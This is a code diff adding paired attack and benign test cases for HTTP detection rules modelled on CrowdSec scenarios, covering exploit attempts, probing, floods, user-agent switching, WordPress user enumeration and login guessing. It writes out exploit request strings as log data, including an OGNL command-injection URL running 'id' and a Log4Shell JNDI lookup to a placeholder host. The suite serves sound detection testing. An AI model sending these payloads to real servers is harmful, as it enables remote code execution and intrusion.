@@ -969,6 +969,212 @@ def ls_near(r: Recorder) -> Expected:
     return []
 
 
+# -- rules after the CrowdSec hub's HTTP scenarios (crowdsec.yml, crowdsec-floods.yml) -------
+
+EXP, TECH, PROBE = "exploit-attempt", "technology-probe", "probing-source"
+RURI, CACHE, UAS, WPU, APISCP = (
+    "random-uri-flood",
+    "cache-bypass-flood",
+    "user-agent-switching",
+    "wordpress-user-enum",
+    "apiscp-brute-force",
+)
+
+
+def hits(
+    r: Recorder, ip: str, start: int, lines: list[tuple[str, str, int]], *, ua: str, gap: float = 1
+) -> list[str]:
+    """Access-log requests ``(method, target, status)`` from one address, ``gap`` seconds apart."""
+    for n, (method, target, status) in enumerate(lines):
+        r.access(start + int(n * gap), ip, method, target, status, ua=ua)
+    return [ip]
+
+
+OGNL = "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/"
+
+
+@case(EXP, "confluence-ognl-and-log4shell")
+def exp_attack(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    exploits = [
+        ("GET", OGNL, 404),
+        ("GET", "/?x=${jndi:ldap://203.0.113.99/a}", 200),
+        ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
+    ]
+    ip = hits(r, "203.0.113.51", 60, exploits, ua=CURL)
+    return [alert(EXP, {"source.ip": ip[0]}, count=3, attackers=ip)]
+
+
+@case(EXP, "ordinary-requests")
+def exp_benign(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    hits(
+        r,
+        home_ip(200),
+        60,
+        [
+            ("GET", "/index.php?page=setup", 200),
+            ("POST", "/index.php?login=1", 302),
+            ("GET", "/api/v1/search?q=java.lang+runtime", 200),
+        ],
+        ua=FIREFOX,
+    )
+    return []
+
+
+@case(TECH, "web-shell-and-sap-probes")
+def tech_attack(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    ip = hits(
+        r,
+        "203.0.113.52",
+        60,
+        [
+            ("GET", "/c99.php", 404),
+            ("GET", "/sap/bc/gui/x", 404),
+            ("CONNECT", "mail.example.com:25", 400),
+        ],
+        ua=CURL,
+    )
+    return [alert(TECH, {"source.ip": ip[0]}, count=3, attackers=ip)]
+
+
+@case(TECH, "answered-and-ordinary-404s")
+def tech_benign(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    hits(
+        r,
+        home_ip(201),
+        60,
+        [
+            ("GET", "/sap/bc/report", 200),
+            ("GET", "/img/logo-old.png", 404),
+            ("GET", "/wp-content/uploads/a.jpg", 404),
+        ],
+        ua=CHROME,
+    )
+    return []
+
+
+@case(PROBE, "scanner-burst")
+def probe_attack(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    ip = hits(
+        r,
+        "203.0.113.53",
+        60,
+        [("GET", f"/old/{n}.bak", 404) for n in range(12)],
+        ua=CHROME,
+        gap=0.5,
+    )
+    return [alert(PROBE, {"source.ip": ip[0]}, count=12, attackers=ip)]
+
+
+@case(PROBE, "crawler-meeting-dead-links")
+def probe_benign(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    hits(
+        r,
+        GOOGLEBOT_IP,
+        30,
+        [("GET", f"/catalog/item-{n}", 404) for n in range(40)],
+        ua=GOOGLEBOT,
+        gap=2,
+    )
+    return []
+
+
+@case(RURI, "six-letter-flood")
+def ruri_attack(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    rng = r.rng
+    word = ["".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(6)) for _ in range(40)]
+    ip = hits(r, "203.0.113.54", 60, [("GET", f"/{w}", 404) for w in word], ua=FIREFOX, gap=0.2)
+    return [alert(RURI, {"source.ip": ip[0]}, count=40, attackers=ip)]
+
+
+@case(RURI, "thirty-in-ten-seconds")
+def ruri_near(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    hits(r, "203.0.113.54", 60, [("GET", "/ABCDEF", 404)] * 30, ua=FIREFOX, gap=0.3)
+    return []
+
+
+@case(CACHE, "numeric-query-flood")
+def cache_attack(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    ip = hits(
+        r,
+        "203.0.113.55",
+        60,
+        [("GET", f"/?{10_000_000 + n * 7919}", 200) for n in range(40)],
+        ua=FIREFOX,
+        gap=0.2,
+    )
+    return [alert(CACHE, {"source.ip": ip[0]}, count=40, attackers=ip)]
+
+
+@case(CACHE, "thirty-cache-busters")
+def cache_near(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    hits(
+        r,
+        "203.0.113.55",
+        60,
+        [("GET", f"/?{10_000_000 + n}", 200) for n in range(30)],
+        ua=FIREFOX,
+        gap=0.3,
+    )
+    return []
+
+
+@case(UAS, "rotating-agents")
+def uas_attack(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    ip = hits(r, "203.0.113.56", 60, [], ua=CHROME)
+    for n in range(12):
+        r.access(60 + n // 3, ip[0], "GET", "/", 200, ua=f"Mozilla/5.0 (Agent {n})")
+    return [alert(UAS, {"source.ip": ip[0]}, count=12, attackers=ip)]
+
+
+@case(UAS, "office-nat-browsers")
+def uas_benign(r: Recorder) -> Expected:
+    access_customers(r, 0, 600)
+    for n in range(15):  # fifteen colleagues' browsers, one every twenty seconds
+        r.access(60 + n * 20, OFFICE_NAT, "GET", "/", 200, ua=f"{BENIGN[n % 5]} office-{n}")
+    return []
+
+
+@case(WPU, "author-walk")
+def wpu_attack(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    ip = hits(
+        r, "203.0.113.57", 60, [("GET", f"/?author={n}", 404) for n in range(1, 9)], ua=CHROME
+    )
+    return [alert(WPU, {"source.ip": ip[0]}, count=8, attackers=ip)]
+
+
+@case(WPU, "one-author-page-reloaded")
+def wpu_benign(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    hits(r, home_ip(202), 60, [("GET", "/?author=1", 200)] * 10, ua=CHROME, gap=3)
+    return []
+
+
+@case(APISCP, "login-form-guessing")
+def apiscp_attack(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    ip = hits(r, "203.0.113.58", 60, [("POST", "/apps/login", 200)] * 7, ua=CHROME, gap=2)
+    return [alert(APISCP, {"source.ip": ip[0]}, count=7, attackers=ip)]
+
+
+@case(APISCP, "five-logins-a-minute")
+def apiscp_near(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    hits(r, home_ip(203), 60, [("POST", "/apps/login", 200)] * 5, ua=CHROME, gap=10)
+    return []
+
+
 # -- writing -----------------------------------------------------------------------------------
 
 
